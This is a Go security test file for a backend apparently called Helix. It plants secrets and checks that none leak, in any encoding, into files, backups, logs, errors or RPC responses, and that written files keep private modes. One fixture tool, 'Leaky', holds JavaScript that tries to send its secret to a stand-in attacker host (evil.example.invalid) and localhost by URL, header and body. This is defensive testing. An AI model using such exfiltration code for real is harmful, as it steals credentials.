package backend

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/uuid"

	"helix/backend/permission"
	"helix/backend/tools"
)

// checkModes checks the mode of every file and folder that Helix has written: only the user may
// access them.
func (a *attacked) checkModes(t *testing.T) {
	t.Helper()
	seen := map[string]bool{}
	err := filepath.WalkDir(a.dir, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		seen[filepath.Base(path)] = true
		if path != a.dir && info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s has mode %o", strings.TrimPrefix(path, a.dir), info.Mode().Perm())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"helix.db", "helix.db-wal", "helix.lock", "helix.log", "endpoint.json", "config.toml", "plain.zip", "locked.zip", "audit.jsonl", "export", "kept.txt", "audit-head"} {
		if !seen[name] {
			t.Errorf("%s was not written, so its mode was not checked", name)
		}
	}
}

// planted are values that must not be found anywhere except in their stores.
type planted struct{ stored, secret, recovery, passphrase, token, ticket string }

// leaveTraces performs operations that write files, with planted secrets, below a.dir/out and in
// the data folder.
func (a *attacked) leaveTraces(t *testing.T) planted {
	t.Helper()
	p := planted{stored: "stored+value/7f3a91==", secret: "tool&secret=55d1c0ffee", passphrase: "correct-horse-battery-9"}
	must := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	out := filepath.Join(a.dir, "out")
	must("folder", os.Mkdir(out, 0o700))
	call := func(method string, params map[string]any) json.RawMessage {
		t.Helper()
		var r json.RawMessage
		must(method, a.call(method, params, &r))
		return r
	}
	call("secrets.set", map[string]any{"name": "provider.key", "value": p.stored, "_meta": repeatable()})
	tool := a.tool(t, tools.CreateParams{Name: "Leaky", SandboxProfile: "permissive", Capabilities: []string{"secret(KEY)", "state(64KiB)", "network:https(api.example.invalid)"},
		Code: `const k = await helix.secret("KEY");
			console.log("the key is " + k, btoa(k), [...k].join(" "));
			await helix.state.set("k", k); await helix.fs.writeText("kept.txt", k);
			let why = "";
			for (const url of ["https://api.example.invalid/?k=" + k, "https://evil.example.invalid/?k=" + k, "http://localhost:1/?k=" + k])
				try { await helix.fetch(url, {headers: {authorization: k}, method: "POST", body: k, timeoutMs: 300}); } catch (e) { why += e.message + " "; }
			throw new Error("failed with " + k + " " + why);`})
	call("tools.secret_set", map[string]any{"name": "KEY", "value": p.secret, "hosts": []string{"api.example.invalid"}, "toolIds": []string{}})
	a.allowAll(t, tool)
	if r := a.run(t, tool, nil); r.Success || strings.Contains(r.Error, p.secret) {
		t.Fatalf("%+v", r)
	}
	p.token = field(t, call("tokens.create", map[string]any{"name": "other", "scopes": []string{"read"}, "_meta": repeatable()}), "token")
	_, p.ticket, _ = strings.Cut(field(t, call("sessions.ticket", map[string]any{"_meta": repeatable()}), "url"), "#ticket=")
	p.recovery = field(t, call("keys.export_recovery", map[string]any{"_meta": repeatable()}), "code")
	call("config.set", map[string]any{"values": map[string]any{"history.max_rows": 9000}})
	call("tools.share", map[string]any{"toolId": tool, "access": "link"})
	must("bundle", os.WriteFile(filepath.Join(out, "bundle.json"), call("tools.export", map[string]any{"toolIds": []any{tool}, "includeHistory": true}), 0o600))
	call("storage.backup", map[string]any{"path": filepath.Join(out, "plain.zip")})
	call("storage.backup", map[string]any{"path": filepath.Join(out, "locked.zip"), "passphrase": p.passphrase})
	call("storage.backup", map[string]any{})
	call("storage.export", map[string]any{"dir": filepath.Join(out, "export")})
	call("audit.export", map[string]any{"path": filepath.Join(out, "audit.jsonl")})
	var r json.RawMessage
	for method, params := range map[string]map[string]any{
		"storage.restore": {"path": filepath.Join(out, "locked.zip"), "passphrase": p.passphrase + "x", "dryRun": true},
		"secrets.set":     {"name": "provider.key", "value": p.stored, "extra": p.secret},
		"connect":         {"minProtocol": 1, "maxProtocol": 1, "auth": map[string]any{"token": p.token, "password": p.passphrase}},
	} {
		err := a.call(method, params, &r)
		for _, s := range []string{p.stored, p.secret, p.passphrase, p.token} {
			if err != nil && strings.Contains(err.Error(), s) {
				t.Errorf("%s shows a secret: %v", method, err)
			}
		}
	}
	return p
}

// TestSecretsStayWhereTheyAreKept searches everything that was written and everything that the
// methods return for planted secrets, and checks the mode of every file.
func TestSecretsStayWhereTheyAreKept(t *testing.T) {
	t.Parallel()
	a := attack(t)
	p := a.leaveTraces(t)
	a.log.Info("a line of the log")
	a.checkModes(t)
	secrets := map[string]string{
		"stored secret": p.stored, "tool secret": p.secret, "recovery code": p.recovery, "recovery code without dashes": strings.ReplaceAll(p.recovery, "-", ""),
		"passphrase": p.passphrase, "token": p.token, "ticket": p.ticket, "root token": a.root,
	}
	if b, err := os.ReadFile(filepath.Join(a.dir, "config", "root.key")); err != nil {
		t.Fatal(err)
	} else if key := strings.Trim(string(b), " \n"); !strings.HasPrefix(key, "{") {
		secrets["root key"] = key
	} else {
		secrets["root key"] = field(t, b, "rootKey")
	}
	look := func(where string, content []byte) {
		for name, s := range secrets {
			for form, text := range map[string]string{
				"": s, " in base64": base64.StdEncoding.EncodeToString([]byte(s)), " in hex": hex.EncodeToString([]byte(s)), " in a URL": url.QueryEscape(s),
				" in JSON": strings.Trim(string(raw(t, s)), `"`), " as bytes": string(unhex(s)), " as bytes of base64": string(unbase64(s)),
			} {
				if len(text) >= 8 && bytes.Contains(content, []byte(text)) {
					t.Errorf("%s: the %s%s", where, name, form)
				}
			}
		}
	}
	walk := func() {
		err := filepath.WalkDir(a.dir, func(path string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			where := strings.TrimPrefix(path, a.dir)
			switch d.Name() {
			case "gateway-token", "root.key": // the store if there is no keyring
				return nil
			}
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			look(where, b)
			if strings.HasSuffix(path, ".zip") {
				z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
				if err != nil {
					return err
				}
				for _, f := range z.File {
					r, err := f.Open()
					if err != nil {
						return err
					}
					content, err := io.ReadAll(r)
					if err := errors.Join(err, r.Close()); err != nil {
						return err
					}
					look(where+"!"+f.Name, content)
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	walk()
	for _, m := range []struct {
		name   string
		params map[string]any
	}{
		{"audit.list", map[string]any{"limit": 100}}, {"tools.usage", map[string]any{}}, {"tools.secrets", map[string]any{}}, {"secrets.list", map[string]any{}},
		{"tokens.list", map[string]any{}}, {"sessions.list", map[string]any{}}, {"config.get", map[string]any{}}, {"system.status", map[string]any{}},
		{"storage.status", map[string]any{}}, {"keys.status", map[string]any{}}, {"approvals.list", map[string]any{"status": "approved"}}, {"permissions.list", map[string]any{}},
		{"tools.list", map[string]any{}}, {"services.list", map[string]any{}}, {"storage.backups", map[string]any{}},
	} {
		var r json.RawMessage
		if err := a.call(m.name, m.params, &r); err != nil {
			t.Errorf("%s: %v", m.name, err)
		}
		look(m.name, r)
	}
	if err := a.Close(); err != nil { // the WAL is moved into the database, the log is closed
		t.Fatal(err)
	}
	walk()
}

// repeatable returns metadata that makes the server store the answer, so that the call can be
// repeated.
func repeatable() map[string]any { return map[string]any{"idempotencyKey": uuid.NewString()} }

// unhex decodes a text of hex digits; it returns nothing for other texts.
func unhex(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		return nil
	}
	return b
}

func unbase64(s string) []byte {
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		return nil
	}
	return b
}

func field(t *testing.T, obj json.RawMessage, name string) string {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(obj, &m); err != nil {
		t.Fatal(err)
	}
	s, ok := m[name].(string)
	if !ok || s == "" {
		t.Fatalf("no %s in %.200s", name, obj)
	}
	return s
}

// call makes one call with the root token over POST /rpc. The error contains the whole response.
func (a *attacked) call(method string, params map[string]any, result any) error {
	if a.root == "" {
		return errors.New("no root token")
	}
	body, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
	if err != nil {
		return err
	}
	req, err := http.NewRequest(http.MethodPost, a.Gateway.URL()+"/rpc", bytes.NewReader(body)) //nolint:noctx // a test's short call
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+a.root)
	req.Close = true
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	var r struct{ Result, Error json.RawMessage }
	if err := json.Unmarshal(answer, &r); err != nil || r.Error != nil {
		return fmt.Errorf("%d %s", resp.StatusCode, answer)
	}
	return json.Unmarshal(r.Result, result)
}

// tool creates a tool and returns its id.
func (a *attacked) tool(t *testing.T, p tools.CreateParams) uuid.UUID {
	t.Helper()
	r, err := a.Tools.Create(a.as(a.LocalUser()), p)
	if err != nil {
		t.Fatalf("create %s: %v %+v", p.Name, err, r.Validation)
	}
	return r.Tool.ID
}

func (a *attacked) run(t *testing.T, tool uuid.UUID, params any) tools.ExecuteResult {
	t.Helper()
	p := tools.ExecuteParams{ToolID: &tool}
	if params != nil {
		p.Params = raw(t, params)
	}
	r, err := a.Tools.Execute(a.as(a.LocalUser()), p)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	return r
}

// allowAll runs a tool until it requests nothing new, and grants all requests.
func (a *attacked) allowAll(t *testing.T, tool uuid.UUID) {
	t.Helper()
	ctx := a.as(a.LocalUser())
	for range 10 {
		_, _ = a.Tools.Execute(ctx, tools.ExecuteParams{ToolID: &tool}) // only its requests matter
		if a.allowPending(t, tool) == 0 {
			return
		}
	}
}

// allowPending permanently grants what a tool has requested.
func (a *attacked) allowPending(t *testing.T, tool uuid.UUID) int {
	t.Helper()
	ctx := a.as(a.LocalUser())
	l, err := a.Permission.ListApprovals(ctx, permission.ListApprovalsParams{SubjectID: tool.String()})
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range l.Approvals {
		if _, err := a.Permission.AnswerApproval(ctx, permission.AnswerParams{ID: q.ID, Decision: "approve", DefinitionHash: q.DefinitionHash, Scope: "always"}); err != nil {
			t.Fatal(err)
		}
	}
	return len(l.Approvals)
}
